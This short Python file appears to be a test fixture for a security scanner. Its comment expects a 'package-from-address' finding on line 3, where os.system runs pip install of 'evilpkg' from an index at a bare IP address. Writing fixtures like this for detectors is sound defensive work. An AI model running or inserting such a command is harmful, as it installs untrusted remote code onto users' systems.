# expect: 3 package-from-address
import os
os.system('pip install --index-url http://198.51.100.7/simple evilpkg')
